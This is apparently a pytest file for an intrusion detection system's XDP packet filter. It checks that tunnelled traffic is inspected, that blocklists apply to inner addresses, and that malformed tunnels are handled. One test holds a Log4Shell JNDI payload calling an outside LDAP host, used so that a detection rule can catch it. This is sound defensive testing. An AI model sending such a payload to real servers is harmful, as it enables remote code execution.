"""Tunnels at the gate: what is inside reaches the engine whatever the depth, and lists hold for who sends within."""

from __future__ import annotations

import ipaddress
from pathlib import Path

import pytest
from scapy.layers.inet import IP, UDP

from ids.config import load_config
from ids.engine import Engine
from ids.events import Event
from ids.kernel import Block, FastPath
from ids.kernel.contract import BlockFlag, Flags, FlowVerdict, Reason
from ids.kernel.flows.entries import FlowAddress
from ids.kernel.system import syscall
from ids.lab.guard import rules_directory
from ids.replay import ReplayGate
from ids.types import address_halves
from tests.kernel import packets as p
from tests.kernel.conftest import settings
from tests.kernel.gate import TUNNEL_PORTS, XDP_DROP, XDP_PASS, Gate

pytestmark = [pytest.mark.root, pytest.mark.xdp]

SHOWN, DEPTH = Reason.PASS_SHOWN, Reason.PASS_DEPTH
BLOCKED = (Reason.DROP_BLOCKED, Reason.DROP_BLOCKED_PREFIX)
ANSWER = p.wire(p.IP4_BACK, p.reply("A"), b"x")
ANSWER6 = p.wire(p.IP6_BACK, p.reply("A"), b"x")
KINDS = sorted(p.tunnelled(p.DATA))
BULK = p.wire(p.IP4, p.tcp("A"), bytes(1000))
TEREDO = p.over_udp(3544, b"", p.DATA6[14:])
TEREDO_WITH_ALL = p.over_udp(3544, b"\0\1\2\3" + bytes(5) + bytes(9) + bytes(8), p.DATA6[14:])


@pytest.mark.parametrize("kind", [*KINDS, "Teredo"])
def test_a_tunnel_is_shown_whatever_its_depth(gate: Gate, kind: str) -> None:
    """One flow of many would otherwise use up what is shown of the others."""
    packet = p.over_udp(3544, b"", p.DATA6[14:] + bytes(1000)) if kind == "Teredo" else p.tunnelled(BULK)[kind]
    assert gate.send_all([packet] * 20) == [SHOWN] * 20


def test_what_is_no_tunnel_has_its_depth(gate: Gate) -> None:
    packet = p.over_udp(4788, b"\x08\0\0\0\0\0\x2a\0", BULK)
    assert gate.send_all([packet] * 3) == [SHOWN, DEPTH, DEPTH]


def test_a_tunnel_is_one_flow_where_none_is_looked_into(gate: Gate) -> None:
    gate.fastpath.look_into(None)
    for kind in ("VXLAN", "GRE", "IP in IPv4"):
        packet = p.tunnelled(BULK)[kind]
        assert gate.send_all([packet] * 3)[-1] == DEPTH


def test_ports_are_those_of_the_settings(gate: Gate) -> None:
    gate.fastpath.look_into([(4788,), (), (1, 65535)])
    for port, last in ((4788, SHOWN), (1, SHOWN), (65535, SHOWN), (4789, DEPTH), (6081, DEPTH), (2, DEPTH)):
        packet = p.over_udp(port, b"\x08\0\0\0\0\0\x2a\0", BULK)
        assert gate.send_all([packet] * 3)[-1] == last, port


def test_settings_of_the_gate_leave_the_tunnels_as_they_are(gate: Gate) -> None:
    gate.fastpath.configure(gate.fastpath.settings)
    assert gate.send_all([p.vxlan(BULK)] * 3) == [SHOWN] * 3


def test_a_tunnel_is_not_waved_through(gate: Gate) -> None:
    """What looks encrypted first may be something else a packet later."""
    gate.send(p.vxlan(BULK))
    flow = FlowAddress(address_halves(p.VTEP), address_halves(p.OTHER_VTEP), 50000, 4789, 17)
    assert gate.fastpath.set_flow(flow, FlowVerdict.BYPASS)
    assert gate.send(p.vxlan(BULK)).reason == SHOWN


def test_a_tunnel_is_shown_though_no_rule_asks_for_what_is_around_it(gate: Gate) -> None:
    settings = gate.fastpath.settings
    try:
        gate.fastpath.narrow({"tcp"})
        for kind in ("VXLAN", "GRE", "IP in IPv4"):
            assert gate.send_all([p.tunnelled(BULK)[kind]] * 9) == [SHOWN] * 9
    finally:
        gate.fastpath.configure(settings)


def blocked(gate: Gate, packet: bytes) -> bool:
    """Return whether a packet is dropped for the blocklist, and for what is inside of it."""
    verdict = gate.send(packet)
    assert (verdict.reason in BLOCKED) == (Reason.NOTE_IN_TUNNEL in verdict.notes)
    return verdict.reason in BLOCKED


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("network", "packet"),
    [
        ("192.0.2.7/32", p.DATA),
        ("192.0.2.0/24", p.DATA),
        ("2001:db8::7/128", p.DATA6),
        ("2001:db8::/64", p.DATA6),
    ],
)
def test_a_blocked_source_is_blocked_in_a_tunnel(gate: Gate, kind: str, network: str, packet: bytes) -> None:
    gate.block(network)
    assert blocked(gate, p.tunnelled(packet)[kind])
    assert gate.block_entry(network)["packets"] == 1
    assert not blocked(gate, p.tunnelled(ANSWER if packet == p.DATA else ANSWER6)[kind]), "to it, not from it"


@pytest.mark.parametrize("packet", [TEREDO, TEREDO_WITH_ALL])
def test_and_in_teredo(gate: Gate, packet: bytes) -> None:
    assert not blocked(gate, packet)
    gate.block("2001:db8::7")
    assert blocked(gate, packet)


def test_who_is_around_a_tunnel_is_asked_for_as_ever(gate: Gate) -> None:
    gate.block(p.VTEP)
    assert gate.send(p.vxlan(p.DATA)).reason == Reason.DROP_BLOCKED
    assert not gate.send(p.vxlan(p.DATA)).notes


def test_a_blocked_source_within_a_fragmented_tunnel(gate: Gate) -> None:
    """Its first fragment has the addresses; without it there is no datagram."""
    gate.block("192.0.2.7")
    whole = p.ipip(BULK)
    first = whole[:20] + b"\x20" + whole[21:]
    assert blocked(gate, first)


def test_the_allow_list_is_asked_for_each_address_by_itself(gate: Gate) -> None:
    gate.block("192.0.2.7")
    gate.allow(p.VTEP + "/32")
    assert blocked(gate, p.vxlan(p.DATA)), "the tunnel's end is let in, not whom it carries"
    gate.allow("192.0.2.0/24")
    assert not blocked(gate, p.vxlan(p.DATA))
    gate.block(p.OTHER_VTEP)
    turned = p.wire(IP(src=p.OTHER_VTEP, dst=p.VTEP, proto=4), p.DATA[14:])
    assert gate.send(turned).reason == Reason.DROP_BLOCKED, "and the other way round"


def test_shadow_entries_and_shadow_mode_drop_nothing_in_tunnels(gate: Gate) -> None:
    gate.block("192.0.2.7", mode=BlockFlag.SHADOW)
    assert Reason.NOTE_SHADOW in gate.send(p.vxlan(p.DATA)).notes
    gate.block("192.0.2.7")
    gate.fastpath.shadow(True)
    try:
        verdict = gate.send(p.vxlan(p.DATA))
    finally:
        gate.fastpath.shadow(False)
    assert (verdict.reason, verdict.would) == (SHOWN, frozenset({Reason.DROP_BLOCKED}))


def test_lists_look_into_no_tunnel_where_none_is_looked_into(gate: Gate) -> None:
    gate.block("192.0.2.7")
    gate.fastpath.look_into(None)
    assert not any(blocked(gate, packet) for packet in p.tunnelled(p.DATA).values())


UNREAD = {
    "three tunnels within each other": p.ipip(p.ipip(p.ipip(p.DATA))),
    "PPPoE in VXLAN": p.vxlan(p.DATA[:12] + b"\x88\x64" + bytes(40)),
    "MPLS in GRE": p.gre(bytes(40), b"\0\0\x88\x47"),
    "a first fragment that ends before the addresses": p.wire(
        IP(src=p.VTEP, dst=p.OTHER_VTEP, flags="MF"), UDP(sport=1, dport=4789, len=200), bytes(16)
    ),
}


@pytest.mark.parametrize("packet", UNREAD.values(), ids=UNREAD)
def test_what_cannot_be_asked_about_is_counted_and_dropped_by_setting(gate: Gate, packet: bytes) -> None:
    verdict = gate.send(packet)
    assert (verdict.reason, Reason.NOTE_TUNNEL_UNREAD in verdict.notes) == (SHOWN, True)
    gate.fastpath.config["flags"][0] |= Flags.DROP_UNPARSED
    assert gate.send(packet).reason == Reason.DROP_NOT_IP
    assert gate.send(p.vxlan(p.ARP_REQUEST)).reason == SHOWN
    gate.allow(p.VTEP + "/32")
    assert gate.send(packet).reason == SHOWN


BROKEN = {
    "no VNI": p.over_udp(4789, bytes(8), p.DATA),
    "cut in the inner header": p.ipip(p.DATA[:30]),
    "shorter than its header": p.ipip(p.DATA[:14] + b"\x45\x00\x00\x10" + p.DATA[18:]),
    "GRE with routing": p.gre(p.DATA[14:], b"\x40\0\x08\0"),
    "GRE of version 2": p.gre(p.DATA[14:], b"\0\2\x08\0"),
    "Geneve of version 1": p.over_udp(6081, b"\x40\0\x65\x58" + bytes(4), p.DATA),
    "only a header": p.gre(b"", b"\0\0\x08\0"),
}


@pytest.mark.parametrize("packet", BROKEN.values(), ids=BROKEN)
def test_what_no_host_takes_out_of_a_tunnel_blocks_nobody(gate: Gate, packet: bytes) -> None:
    gate.block("192.0.2.7")
    gate.block("0.0.0.0/8")
    assert gate.send(packet).reason == SHOWN


EXPLOIT = b"GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n"
BEFORE = 1 << 20
"""Bytes of somebody else within the same tunnel: four times the depth of UDP, sixteen times that of others."""


@pytest.mark.parametrize("kind", ["VXLAN", "GRE", "IP in IPv4", "IP in IPv6", "Geneve", "IP in IP in IP"])
def test_an_exploit_behind_a_megabyte_in_a_tunnel_is_found(gate: Gate, kind: str) -> None:
    """All that the engine has is what the program shows it."""
    events: list[Event] = []
    config = load_config(None, [f"rules.paths=[{rules_directory() / 'log4shell.yaml'}]"])
    engine = Engine(config, ReplayGate(), on_events=events.extend)
    noise = p.tunnelled(p.wire(IP(src="192.0.2.99", dst=p.SERVER), UDP(sport=1, dport=2), bytes(1300)))[kind]
    attack = [
        p.tunnelled(packet)[kind]
        for packet in (
            p.wire(p.IP4, p.tcp("S", seq=1000)),
            p.wire(p.IP4_BACK, p.reply("SA", seq=5000, ack=1001)),
            p.wire(p.IP4, p.tcp("A", seq=1001, ack=5001)),
            p.wire(p.IP4, p.tcp("PA", seq=1001, ack=5001), EXPLOIT),
        )
    ]
    for number in range(BEFORE // len(noise)):
        assert gate.send(noise).reason == SHOWN
        if number % 50 == 0:
            gate.shown()  # the engine has read them
    gate.shown()
    gate.send_all(attack)
    shown = gate.shown()
    assert shown is not None
    engine.process(shown)
    engine.stop()
    assert [event["src_ip"] for event in events if event["event_type"] == "alert"] == [p.CLIENT]


def test_pins_of_a_program_that_looked_into_no_tunnel_are_taken_over(bpffs: Path) -> None:
    """The table of ports is new, and no layout is another: so it is the same version of the contract."""
    chosen = settings(bpffs)
    before = FastPath.open(chosen, "tunnels")
    before.blocks.add([Block(ipaddress.ip_network("192.0.2.7/32"))])
    pins = before.pin_dir
    before.close("keep")
    (pins / "ids_tunnels").unlink()
    after = FastPath.open(chosen, "tunnels")
    try:
        after.look_into(TUNNEL_PORTS)
        assert len(after.blocks) == 1
        assert syscall.prog_test_run(after.program, p.vxlan(p.DATA)).action == XDP_DROP
        after.look_into(None)
        assert syscall.prog_test_run(after.program, p.vxlan(p.DATA)).action == XDP_PASS
    finally:
        after.close("remove")
